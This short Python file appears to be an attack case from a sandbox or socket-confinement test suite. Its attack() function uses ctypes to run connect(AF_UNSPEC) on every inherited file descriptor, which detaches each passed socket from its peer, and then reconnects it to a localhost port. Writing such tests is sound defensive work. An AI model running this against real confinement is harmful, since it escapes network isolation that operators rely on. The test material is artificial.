"""Turn every inherited descriptor into a connection of one's own."""

from __future__ import annotations

import ctypes
import struct

ORIGIN = "A passed socket is not confined to its peer: connect(AF_UNSPEC) frees it."
SEEN = "connected"


def attack(target):
    libc = ctypes.CDLL(None)
    address = struct.pack("=H", 2) + struct.pack(">HI", target["port"], 0x7F000001) + bytes(8)
    for descriptor in range(3, 1024):
        libc.connect(descriptor, bytes(16), 16)
        libc.connect(descriptor, address, 16)
